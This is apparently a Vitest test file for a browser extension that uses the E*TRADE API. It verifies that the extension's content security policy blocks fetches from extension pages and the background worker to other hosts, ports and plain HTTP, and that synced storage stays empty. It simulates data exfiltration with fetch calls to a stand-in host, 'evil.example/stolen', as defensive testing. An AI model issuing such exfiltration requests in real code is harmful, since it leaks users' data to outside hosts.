import { expect, it } from 'vitest';
import { fetchInBackground } from '../stage/fetch-in-background.ts';
import { useStage } from '../stage/use-stage.ts';

// Somebody is attached to the background at last.
const stage = useStage({ ownBrowser: true });

/** What a library gone bad would try, in a page of the extension. */
it.each([
  ["E*TRADE's own website", 'https://us.etrade.com/stolen'],
  ['another port of the API', 'https://api.etrade.com:8443/stolen'],
  ['the API without encryption', 'http://api.etrade.com/stolen'],
  ['any other host', 'https://evil.example/stolen'],
])('lets no request out to %s', async (_, address) => {
  const { emulator, openOptions } = stage();
  const { page } = await openOptions();
  const violated = await page.evaluate(async (url) => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        resolve(effectiveDirective),
      ),
    );
    const answer = await fetch(url, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    );
    return answer === 'sent' ? answer : violation;
  }, address);
  expect(violated).toBe('connect-src');
  expect(emulator.journal.filter(({ path }) => path === '/stolen')).toEqual([]);
});

it('lets one out to the API, so that the above is no accident', async () => {
  const { emulator, openOptions } = stage();
  const { page } = await openOptions();
  await page.evaluate(
    (url) => fetch(url, { mode: 'no-cors' }).catch(() => null),
    'https://api.etrade.com/let-out',
  );
  expect(emulator.journal.filter(({ path }) => path === '/let-out')).toHaveLength(1);
});

it('puts nothing into the storage that browsers copy to an account', async () => {
  const { connect } = stage();
  const popup = await connect();
  await popup.send('List Accounts');
  await popup.response('200 OK');
  expect(await popup.page.evaluate(() => chrome.storage.sync.get(null))).toEqual({});
});

// The last one: in Chromium somebody has to be attached to the worker for it.
it('holds in the background too', async () => {
  const { browser, emulator, openPopup } = stage();
  const popup = await openPopup();
  await popup.page.evaluate(() => chrome.runtime.sendMessage({ type: 'settle' }));
  const tried = [
    'https://api.etrade.com/let-out',
    'https://us.etrade.com/stolen',
    'https://api.etrade.com:8443/stolen',
    'https://evil.example/stolen',
  ];
  expect(await fetchInBackground(browser, tried)).toEqual(['sent', 'refused', 'refused', 'refused']);
  const paths = emulator.journal.map(({ path }) => path);
  expect(paths.filter((path) => path === '/let-out')).toHaveLength(1);
  expect(paths).not.toContain('/stolen');
});
